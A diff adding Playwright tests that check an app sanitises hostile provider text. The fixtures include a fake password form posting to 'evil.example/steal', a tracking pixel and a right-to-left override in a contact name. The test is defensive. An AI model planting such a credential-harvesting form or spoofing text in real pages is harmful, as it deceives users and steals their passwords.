@@ -1,0 +1,81 @@
+/**
+ * Hostile provider text in the page (the renderer in Chromium against the web host and its sandbox, whose
+ * records the spec rewrites in the provider's own database, then syncs): an announcement keeps no style, form
+ * or remote image (until "Show images"), and its links open in a new tab without opener or referrer; a
+ * right-to-left mark in a contact's first name stays inside that name (each value isolated).
+ */
+import Database from 'better-sqlite3';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { expect, openApp, test } from './fixtures/web-host';
+
+const HOSTILE = [
+  '<p>Maintenance <a href="https://status.provider.example/">status page</a></p>',
+  '<style>body { display: none }</style><p style="color: red" id="styled">styled</p>',
+  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
+  '<img id="tracker" src="https://tracker.example/pixel.gif" alt="pixel">',
+].join('');
+
+async function syncNow(page: Page): Promise<void> {
+  await page.evaluate(() => (window as unknown as { desk: { invoke(n: string): Promise<unknown> } }).desk.invoke('sync.run'));
+  await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeEnabled({ timeout: 60_000 });
+}
+
+test('announcements and names from the provider are shown safely', async ({ page, webHost }) => {
+  await openApp(page, webHost);
+  await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeVisible({ timeout: 60_000 });
+  const db = new Database(join(webHost.dataDir, 'demo-provider.db'));
+  const announcement = db.prepare('SELECT id FROM announcements ORDER BY id LIMIT 1').get() as { id: number };
+  db.prepare('UPDATE announcements SET announcement = ? WHERE id = ?').run(HOSTILE, announcement.id);
+  const contact = db.prepare('SELECT id, lastname FROM contacts ORDER BY id LIMIT 1').get() as { id: number; lastname: string };
+  db.prepare('UPDATE contacts SET firstname = ? WHERE id = ?').run('\u202Eevil', contact.id);
+  db.close();
+  await syncNow(page);
+
+  await page.goto(`${webHost.origin}/#/announcements/${announcement.id}`);
+  const detail = page.getByRole('region', { name: 'Details' });
+  const link = detail.getByRole('link', { name: 'status page' });
+  await expect(link).toHaveAttribute('target', '_blank');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  await expect(detail.locator('#styled')).toBeVisible();
+  expect(await detail.locator('#styled').getAttribute('style')).toBeNull();
+  await expect(detail.locator('form, input[name="password"], style')).toHaveCount(0);
+  const tracker = detail.locator('#tracker');
+  expect(await tracker.getAttribute('src')).toBeNull();
+  await detail.getByRole('button', { name: 'Show the image from the provider’s site' }).click();
+  await expect(tracker).toHaveAttribute('src', 'https://tracker.example/pixel.gif');
+
+  await page.goto(`${webHost.origin}/#/contacts/${contact.id}`);
+  const title = page.getByRole('region', { name: 'Details' }).getByRole('heading', { level: 2 });
+  await expect(title).toContainText(contact.lastname);
+  // The right-to-left override is closed at the first name's end: the last name keeps its own direction.
+  expect(await title.textContent()).toBe(`\u2068\u202Eevil\u2069 \u2068${contact.lastname}\u2069`);
+});
+
+test('a very long value is shown cut, and "Show all" opens it whole in a scrolling view', async ({ page, webHost }) => {
+  await openApp(page, webHost);
+  await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeVisible({ timeout: 60_000 });
+  const line = 'A payment described at length. '.repeat(4);
+  const description = Array.from({ length: 480 }, (_, i) => `${i} ${line}`).join('\n');
+  const db = new Database(join(webHost.dataDir, 'demo-provider.db'));
+  const payment = db.prepare('SELECT id FROM transactions ORDER BY id LIMIT 1').get() as { id: number };
+  db.prepare('UPDATE transactions SET description = ? WHERE id = ?').run(description, payment.id);
+  db.close();
+  await syncNow(page);
+
+  await page.goto(`${webHost.origin}/#/payments/${payment.id}`);
+  const detail = page.getByRole('region', { name: 'Details' });
+  const showAll = detail.getByRole('button', { name: 'Show all' });
+  await expect(showAll).toBeVisible();
+  expect((await detail.innerText()).length).toBeLessThan(description.length / 10);
+  await showAll.click();
+  const dialog = page.getByRole('dialog');
+  await expect(dialog.getByText(/^0 A payment described/)).toBeVisible();
+  const shownLines = await dialog.locator('.long-text-line').count();
+  expect(shownLines).toBeGreaterThan(5);
+  expect(shownLines).toBeLessThan(100);
+  await dialog.getByLabel('Description').evaluate((scroller) => (scroller.scrollTop = scroller.scrollHeight));
+  await expect(dialog.getByText(/^479 A payment described/)).toBeVisible();
+  await dialog.getByRole('button', { name: 'Close' }).click();
+  await expect(dialog).toHaveCount(0);
+});
